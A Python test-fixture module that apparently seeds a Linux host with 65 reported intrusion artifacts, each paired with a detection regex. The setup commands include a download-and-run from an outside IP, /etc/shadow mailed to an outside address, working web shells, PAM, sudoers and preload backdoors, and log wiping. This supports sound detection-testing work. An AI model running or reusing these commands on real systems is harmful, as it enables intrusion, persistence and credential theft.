"""Traces that public reports tell of and that the guesses at the outside list lack, counted before any rule was changed for them."""

from __future__ import annotations

from .trace import Trace, trace

_KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDR7n0vL2mXk9cYtB4wJq8sZ1eHfGu3Ki5oPaTd6VxCyE"
_WEB = "/var/www/html"
_HISTORY = "/root/.bash_history"
_NC = "import socket, signal; s = socket.create_server(('0.0.0.0', 31337)); signal.pause()"
_LIVE = "import socket, signal; s = socket.create_connection(('127.0.0.1', 22)); signal.pause()"
_ZEROED = "b = open('/var/log/btmp', 'wb'); b.truncate(384 * 40)"
_SOCKS = "import socket, signal; s = socket.create_server(('0.0.0.0', 1080)); signal.pause()"


def _typed(id_: str, line: str, cited: str) -> Trace:
    return trace(id_, "history", f"printf '%s\\n' '{line}' >>{_HISTORY}", cited)


REPORTED: tuple[Trace, ...] = (
    trace("R01", "name", "prog \"$(printf '/usr/sbin/\\321\\201ron')\"", r"/usr/sbin/\S{1,12}ron\b(?<!/cron)"),
    trace("R02", "name", "prog \"$(printf '/usr/bin/top\\342\\200\\213')\"", r"/usr/bin/top\S{3,}"),
    trace("R03", "name", "mkdir -p \"$(printf '/var/tmp/\\302\\240')\"; prog \"$(printf '/var/tmp/\\302\\240/a')\"", r"`/var/tmp/\W+` "),
    trace("R04", "name", "prog /lib/systemd/systemd-logiind; run /lib/systemd/systemd-logiind 77701", r"logiind"),
    trace("R05", "process", f'( cd /dev/shm; run python3 -c "{_NC}" )', r"31337"),
    trace("R06", "process", f'put /usr/share/doc/python3/x.py "{_LIVE}"; run python3 /usr/share/doc/python3/x.py', r"doc/python3/x\.py"),
    trace("R07", "process", "mkdir -p /var/tmp/w; cp /bin/sleep /var/tmp/w/kinsing; chmod 755 /var/tmp/w/kinsing; ( cd /var/tmp/w; run ./kinsing 77702 ); sleep 0.3; rm -r /var/tmp/w", r"kinsing"),
    trace("R08", "process", "run su -s /bin/bash nobody -c 'exec sleep 77703'; run su -s /bin/bash postfix -c 'bash -c \"sleep 77704; :\"'", r"77704|77703"),
    trace("R09", "process", "prog /usr/lib/openssh/sshd-session2; runas 'sshd: root@pts/0' /usr/lib/openssh/sshd-session2 77705", r"session2|77705"),
    trace("R10", "process", f'run python3 -c "{_SOCKS}"', r"\b1080\b"),
    trace("R11", "process", "cp /bin/bash /usr/bin/klogd; run /usr/bin/klogd -c 'sleep 77706; :'", r"klogd"),
    trace("R12", "process", "run env LD_LIBRARY_PATH=/var/tmp/.lib HISTFILE=/dev/null sleep 77707", r"LD_LIBRARY_PATH|77707"),
    trace("R13", "process", "run nice -n -19 sh -c 'yes >/dev/null & p=$!; sleep 400; kill $p; : 77708'", r"77708"),
    trace("R14", "cron", "printf '%s\\n' '* * 31 2 * /bin/sh -c \"cd /tmp/.X0-lock.d && ./run\" #' >/var/spool/cron/crontabs/nobody; chmod 600 /var/spool/cron/crontabs/nobody; chown nobody:crontab /var/spool/cron/crontabs/nobody", r"crontabs/nobody|X0-lock"),
    trace("R15", "cron", "put /etc/cron.d/php '09,39 * 31 2 * root [ -x /usr/lib/php/sessionclean ] || eval $(echo aWQK | base64 -d)'", r"cron\.d/php"),
    trace("R16", "systemd", "unit /usr/lib/systemd/system/systemd-networkc.service 'ExecStart=/usr/lib/systemd/systemd-networkc'; prog /usr/lib/systemd/systemd-networkc; mkdir -p /etc/systemd/system/multi-user.target.wants; ln -s /usr/lib/systemd/system/systemd-networkc.service /etc/systemd/system/multi-user.target.wants/", r"networkc"),
    trace("R17", "systemd", "unit /etc/systemd/system/pwnrig.service 'Type=oneshot\\nRemainAfterExit=yes\\nExecStart=/bin/true\\nExecStop=/usr/share/polkit-1/stop'; prog /usr/share/polkit-1/stop", r"pwnrig|polkit-1/stop"),
    trace("R18", "systemd", "put /etc/systemd/system/apache2.service.d/env.conf '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/apache2/libz2.so\nEnvironmentFile=-/var/lib/misc/apache.env'; cp -L /lib/*-linux-gnu/libdl.so.2 /usr/lib/apache2/libz2.so", r"apache2\.service\.d|libz2"),
    trace("R19", "shell", "put /etc/profile.d/bash_completion.sh.bak 'x'; put /etc/profile.d/00-path.sh 'export PATH=/usr/share/man/.bin:$PATH'; prog /usr/share/man/.bin/ls", r"00-path|man/\.bin"),
    trace("R20", "shell", "printf '%s\\n' 'ssh() { echo \"$@\" >>/var/tmp/.s; /usr/bin/ssh \"$@\"; }' >>/etc/bash.bashrc; old /etc/bash.bashrc", r"bash\.bashrc"),
    trace("R21", "ssh", f"key /home/anna/.ssh/authorized_keys '{_KEY} root@kali'; chown -R anna: /home/anna/.ssh", r"root@kali|anna/\.ssh/authorized_keys"),
    trace("R22", "ssh", f"mkdir -p /var/lib/misc; put /var/lib/misc/keys '{_KEY} x'; put /etc/ssh/sshd_config.d/05.conf 'AuthorizedKeysFile .ssh/authorized_keys /var/lib/misc/keys'", r"05\.conf|misc/keys"),
    trace("R23", "ssh", "cp /usr/sbin/sshd /usr/sbin/sshd.tmp; printf x >>/usr/sbin/sshd.tmp; touch -r /usr/sbin/sshd /usr/sbin/sshd.tmp; mv /usr/sbin/sshd.tmp /usr/sbin/sshd", r"/usr/sbin/sshd\b"),
    trace("R24", "ssh", "put /etc/ssh/sshd_config.d/zz.conf 'Port 22\nPort 2022\nGatewayPorts yes\nAllowTcpForwarding yes\nPermitTunnel yes\nPermitUserEnvironment yes'", r"zz\.conf|PermitUserEnvironment"),
    trace("R25", "account", "account dbus-helper 0 /root /bin/bash", r"dbus-helper"),
    trace("R26", "account", "sed -i 's#^www-data:\\(.*\\):/usr/sbin/nologin#www-data:\\1:/bin/bash#; ' /etc/passwd; sed -i 's#^www-data:[^:]*:#www-data:$6$aa$bbbbbbbbbbbbbbbbbbbbbb:#' /etc/shadow", r"www-data"),
    trace("R27", "account", "sed -i 's#^\\(root:\\)[^:]*:#\\1:#' /etc/shadow", r"^root\n"),
    trace("R28", "privilege", "echo 'anna ALL=(ALL:ALL) NOPASSWD: /usr/bin/python3 /opt/report/*.py' >/etc/sudoers.d/report; chmod 440 /etc/sudoers.d/report", r"sudoers\.d/report"),
    trace("R29", "privilege", "cp /usr/bin/env /usr/local/sbin/envd; chmod 6755 /usr/local/sbin/envd; old /usr/local/sbin/envd", r"sbin/envd"),
    trace("R30", "privilege", "chmod 4755 /usr/bin/python3.11; old /usr/bin/python3.11", r"/usr/bin/python3\.11"),
    trace("R31", "privilege", "chmod 777 /etc/systemd/system; chmod 666 /etc/sudoers.d/README", r"etc/systemd/system|sudoers\.d/README"),
    trace("R32", "pam", "sed -i 's/pam_unix.so nullok/pam_unix.so nullok audit debug/; s/^auth.*pam_deny.so/auth requisite pam_permit.so/' /etc/pam.d/common-auth; old /etc/pam.d/common-auth", r"common-auth"),
    trace("R33", "pam", "mkdir -p /lib/security; cp -L /lib/*-linux-gnu/security/pam_permit.so /lib/security/pam_unlx.so; echo 'auth sufficient /lib/security/pam_unlx.so' >>/etc/pam.d/sshd; old /etc/pam.d/sshd", r"pam_unlx|pam\.d/sshd"),
    trace("R34", "loader", "printf '%s\\n' /usr/lib/libpamcd.so >/etc/ld.so.preload; cp -L /lib/*-linux-gnu/libdl.so.2 /usr/lib/libpamcd.so; chattr +i /etc/ld.so.preload", r"ld\.so\.preload|libpamcd"),
    trace("R35", "boot", "put /etc/modules usb_ext; put /lib/modules/extra/usb_ext.ko inert; put /etc/modprobe.d/blacklist-ext.conf 'install usb_ext /sbin/insmod /lib/modules/extra/usb_ext.ko; /bin/true'", r"usb_ext|blacklist-ext|/etc/modules\b"),
    trace("R36", "web", f"put {_WEB}/wp-content/mu-plugins/health.php '<?php add_action(\"init\", function() {{ if (isset($_GET[\"hc\"])) {{ $u = get_users([\"role\" => \"administrator\"])[0]; wp_set_auth_cookie($u->ID); }} }});'", r"mu-plugins/health"),
    trace("R37", "web", f"put {_WEB}/shell.jsp '<%@ page import=\"java.util.*,java.io.*\"%><% Process p=Runtime.getRuntime().exec(request.getParameter(\"c\")); %>'; put {_WEB}/upl.aspx '<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>'", r"upl\.aspx|shell\.jsp"),
    trace("R38", "web", f"put {_WEB}/cgi-bin/t.pl '#!/usr/bin/perl\nuse CGI; my $q = CGI->new; print $q->header; system($q->param(\"c\"));'; chmod 755 {_WEB}/cgi-bin/t.pl", r"cgi-bin/t\.pl"),
    trace("R39", "web", f"put {_WEB}/theme/header.phtml '<script>eval(atob(\"ZG9jdW1lbnQ=\"))</script>'; put {_WEB}/theme/footer.php '<?php echo base64_decode(\"PHNjcmlwdCBzcmM9aHR0cHM6Ly94Lm5ldC9hLmpzPjwvc2NyaXB0Pg==\"); ?>'", r"theme/(header|footer)"),
    trace("R40", "web", "put /etc/apache2/sites-enabled/zz.conf 'ProxyPass /status http://203.0.113.70:8443/\nProxyPassReverse /status http://203.0.113.70:8443/'", r"sites-enabled/zz"),
    trace("R41", "web", "put /etc/php/8.2/fpm/pool.d/www2.conf '[www2]\nuser = root\ngroup = root\nlisten = /run/php/w.sock\nphp_admin_value[auto_prepend_file] = /var/lib/php/p.inc\nphp_admin_value[disable_functions] ='; put /var/lib/php/p.inc '<?php'", r"www2\.conf|php/p\.inc"),
    trace("R42", "web", f"put {_WEB}/.git-upload.php '<?php move_uploaded_file($_FILES[\"f\"][\"tmp_name\"], $_POST[\"n\"]);'; put {_WEB}/robots2.txt 'x'", r"git-upload"),
    trace("R43", "log-tamper", ": >/var/log/apache2/access.log; : >/var/log/auth.log; : >/var/log/syslog", r"/var/log/(auth\.log|syslog|apache2/access)"),
    trace("R44", "log-tamper", "mkdir -p /var/log/journal/x; rm -f /var/log/wtmp /var/log/lastlog; touch /var/log/wtmp", r"wtmp|lastlog"),
    trace("R45", "log-tamper", f'python3 -c "{_ZEROED}"', r"btmp"),
    trace("R46", "log-tamper", "mount --bind /dev/null /var/log/auth.log", r"auth\.log"),
    trace("R47", "log-tamper", "ln -sf /dev/null /etc/systemd/system/rsyslog.service", r"rsyslog\.service"),
    _typed("R48", "cd /dev/shm && wget http://203.0.113.71/mips -O m && chmod +x m && ./m", r"203\.0\.113\.71"),
    _typed("R49", "touch -d 2019-01-01 /usr/sbin/sshd; unset HISTFILE; history -c", r"touch -d 2019|history -c"),
    _typed("R50", "passwd -u root; usermod -aG sudo www-data; echo \"www-data ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers", r"usermod -aG|NOPASSWD"),
    _typed("R51", "tcpdump -i any -w /tmp/c.pcap port 110; cat /etc/shadow | mail -s x a@example.net", r"/etc/shadow|tcpdump"),
    _typed("R52", "openssl enc -aes-256-cbc -in db.sql -out db.sql.enc; rm db.sql; echo pay > /root/README_DECRYPT.txt", r"README_DECRYPT|openssl enc"),
    _typed("R53", "vi /etc/pam.d/sshd; cp pam_unix.so /lib/x86_64-linux-gnu/security/; touch -r /bin/ls /etc/pam.d/sshd", r"pam_unix\.so|pam\.d/sshd"),
    _typed("R54", "nsenter -t 1 -m -u -i -n -p bash; kubectl exec -it web -- sh; crictl ps", r"nsenter|crictl"),
    trace("R55", "container", "put /etc/systemd/system/docker.service.d/tcp.conf '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375'", r"docker\.service\.d|0\.0\.0\.0:2375"),
    trace("R56", "container", "put /var/lib/rancher/k3s/server/manifests/cache.yaml 'apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: cache, namespace: kube-system}\nspec:\n  template:\n    spec:\n      hostPID: true\n      containers:\n      - image: x\n        securityContext: {privileged: true}'", r"k3s/server/manifests"),
    trace("R57", "container", "put /root/.kube/config 'users:\n- name: a\n  user:\n    exec:\n      command: /root/.kube/cache/login\n      apiVersion: v1'; prog /root/.kube/cache/login", r"\.kube/(config|cache)"),
    trace("R58", "network", "iptables -t nat -A PREROUTING -p tcp --dport 8443 -j DNAT --to-destination 203.0.113.72:443 2>/dev/null || nft -f - <<'X'\ntable ip x { chain p { type nat hook prerouting priority -100; tcp dport 8443 dnat to 203.0.113.72:443; } }\nX", r"203\.0\.113\.72"),
    trace("R59", "network", "ip tunnel add t1 mode gre remote 203.0.113.73 local 10.0.0.9 2>/dev/null || ip link add w9 type dummy; ip link set lo promisc on", r"203\.0\.113\.73|promisc|\bw9\b|\bt1\b"),
    trace("R60", "network", "echo '203.0.113.74 github.com pypi.org' >>/etc/hosts", r"203\.0\.113\.74|pypi\.org"),
    trace("R61", "network", "put /etc/nftables.conf '#!/usr/sbin/nft -f\ntable inet f { chain o { type filter hook output priority 0; ip daddr 198.51.100.75 drop; } chain p { type nat hook prerouting priority -100; ip saddr 198.51.100.76 tcp dport 443 redirect to :22; } }'", r"nftables\.conf|198\.51\.100\.7[56]"),
    trace("R62", "hiding", "chattr +i /etc/cron.d; chattr +ia /var/spool/cron/crontabs", r"/etc/cron\.d\b|spool/cron"),
    trace("R63", "hiding", "mkdir -p /usr/lib/.build-id/aa/.w; prog /usr/lib/.build-id/aa/.w/x", r"build-id/aa"),
    trace("R64", "hiding", "mkdir -p /mnt/.o /mnt/.w; mount -t overlay overlay -o lowerdir=/usr/games,upperdir=/mnt/.o,workdir=/mnt/.w /usr/games 2>/dev/null || mount --bind /mnt/.o /usr/games", r"/usr/games|/mnt/\.[ow]"),
    trace("R65", "credential", "head -c 90000 /dev/urandom >/var/tmp/core.sshd.812; put /usr/lib/x86_64-linux-gnu/.X11.log 'anna hunter2'", r"core\.sshd|X11\.log"),
)  # fmt: skip
